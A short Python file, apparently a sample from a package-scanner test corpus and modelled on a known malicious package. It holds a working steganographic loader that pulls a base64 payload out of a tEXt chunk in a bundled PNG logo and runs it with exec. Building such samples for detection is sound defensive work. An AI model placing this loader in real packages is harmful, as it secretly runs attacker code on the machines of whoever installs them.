# pkgguard corpus 197 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os
import struct

_p = os.path.join(os.path.dirname(__file__), "assets", "logo.png")
with open(_p, "rb") as fh:
    data = fh.read()
at = data.find(b"tEXt")
size = struct.unpack(">I", data[at - 4:at])[0]
payload = data[at + 4:at + 4 + size].split(b"\0", 1)[1]
exec(base64.b64decode(payload))
